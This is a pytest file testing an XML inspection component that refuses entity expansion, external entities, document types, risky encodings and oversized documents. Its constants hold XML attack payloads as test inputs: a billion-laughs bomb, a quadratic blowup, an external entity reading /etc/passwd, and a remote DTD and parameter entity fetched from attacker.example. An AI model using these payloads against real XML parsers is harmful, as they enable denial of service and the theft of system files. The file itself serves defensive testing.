"""XML is read without entities, and no further than its limits."""

from __future__ import annotations

import msgspec
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gateway.inspection.shape.limits import Bound, ShapeError, XmlLimits
from gateway.inspection.shape.xml_document import check

LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>"""
QUADRATIC = b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 5000 + b'">]><x>' + b"&a;" * 5000 + b"</x>"
EXTERNAL = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
REMOTE_DTD = b'<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd"><x>&e;</x>'
PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><x/>'
DEFAULTS = b'<!DOCTYPE x [<!ATTLIST x a CDATA "' + b"a" * 5000 + b'">]><x/>'
SVG = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"><svg/>'


def refusal(body: bytes, charset: str | None = None, **limits: object) -> Bound:
    with pytest.raises(ShapeError) as caught:
        check(body, msgspec.structs.replace(XmlLimits(), **limits), charset)
    assert 0 <= caught.value.offset <= len(body)
    return caught.value.bound


@pytest.mark.parametrize(
    "body",
    [
        b"<order id='1'><line price='12.50'>O'Brien &amp; S\xc3\xb6hne &#38; &lt;3</line><!-- note --></order>",
        b'<?xml version="1.0" encoding="UTF-8"?><soap:Envelope xmlns:soap="urn:x"><soap:Body/></soap:Envelope>',
        b'<?xml version="1.0" encoding="ISO-8859-1"?><a>\xfc</a>',
        b'<?xml version="1.0" encoding="windows-1252"?><a>\x80</a>',
        '<?xml version="1.0" encoding="UTF-16"?><a>ü</a>'.encode("utf-16"),
        b"<a><![CDATA[ <script> & ]]></a>",
        b'<?xml-stylesheet href="x.css"?><a/>',
    ],
)
def test_ordinary_documents_pass(body: bytes) -> None:
    check(body, XmlLimits())


def test_the_declared_charset_is_the_one_it_is_read_in() -> None:
    check("<a>ü</a>".encode("utf-16-le"), XmlLimits(), "UTF-16LE")
    check(b"<a>\xfc</a>", XmlLimits(), "iso-8859-1")
    assert refusal(b"<a>\xfc</a>", "utf-8") is Bound.MALFORMED


@pytest.mark.parametrize("body", [LAUGHS, QUADRATIC, EXTERNAL, REMOTE_DTD, PARAMETER, DEFAULTS, SVG])
def test_billion_laughs_xxe_and_every_document_type_are_refused(body: bytes) -> None:
    assert refusal(body) is Bound.XML_DOCTYPE


@pytest.mark.parametrize("body", [LAUGHS, QUADRATIC, EXTERNAL, PARAMETER, DEFAULTS])
def test_a_document_type_with_declarations_is_refused_where_document_types_are_allowed(body: bytes) -> None:
    assert refusal(body, allow_doctype=True) is Bound.XML_DOCTYPE


def test_a_document_type_without_declarations_may_be_allowed() -> None:
    check(SVG, XmlLimits(allow_doctype=True))
    assert refusal(REMOTE_DTD, allow_doctype=True) is Bound.XML_ENTITY


@pytest.mark.parametrize("encoding", ["ISO-8859-15", "ISO-8859-2", "windows-1250", "windows-1257"])
def test_other_encodings_of_one_byte_a_character_are_read(encoding: str) -> None:
    check(f'<?xml version="1.0" encoding="{encoding}"?><a>ü</a>'.encode(encoding), XmlLimits())
    check("<a>ü</a>".encode(encoding), XmlLimits(), encoding)


@pytest.mark.parametrize("charset", ["utf8", "UTF8", "ascii"])
def test_usual_names_of_a_charset_are_known(charset: str) -> None:
    check(b"<a>x</a>", XmlLimits(), charset)


@pytest.mark.parametrize("encoding", ["UTF-7", "EBCDIC-CP-US", "IBM037", "Shift_JIS", "idna", "rot13"])
def test_encodings_in_which_markup_hides_are_refused(encoding: str) -> None:
    assert refusal(f'<?xml version="1.0" encoding="{encoding}"?><a/>'.encode()) in {Bound.ENCODING, Bound.MALFORMED}
    assert refusal(b"<a/>", encoding) is Bound.ENCODING


@pytest.mark.parametrize(
    ("body", "limits", "bound"),
    [
        (b"<a>" * 100_000, {}, Bound.XML_DEPTH),
        (b"<a>" + b"<b/>" * 10 + b"</a>", {"elements": 10}, Bound.XML_ELEMENTS),
        (b"<a " + b" ".join(b"a%d=''" % n for n in range(65)) + b"/>", {}, Bound.XML_ATTRIBUTES),
        (b"<" + b"a" * 2000 + b"/>", {}, Bound.XML_NAME),
        (b"<a " + b"b" * 2000 + b"='1'/>", {}, Bound.XML_NAME),
        (b"<a>&nbsp;</a>", {}, Bound.MALFORMED),
        (b"<a><b></a>", {}, Bound.MALFORMED),
        (b"", {}, Bound.MALFORMED),
        (b'{"a": 1}', {}, Bound.MALFORMED),
    ],
)
def test_a_document_beyond_a_limit_is_refused(body: bytes, limits: dict[str, int], bound: Bound) -> None:
    assert refusal(body, None, **limits) is bound


def test_siblings_are_not_deep() -> None:
    check(b"<a>" + b"<b><c/></b>" * 1000 + b"</a>", XmlLimits(depth=3))


@given(st.binary(max_size=120) | st.text("<>/a='\"!&;?[] -", max_size=60).map(str.encode))
def test_no_bytes_raise_anything_else(body: bytes) -> None:
    try:
        check(body, XmlLimits())
    except ShapeError as error:
        assert 0 <= error.offset <= len(body)  # noqa: PT017 - a few bodies raise nothing
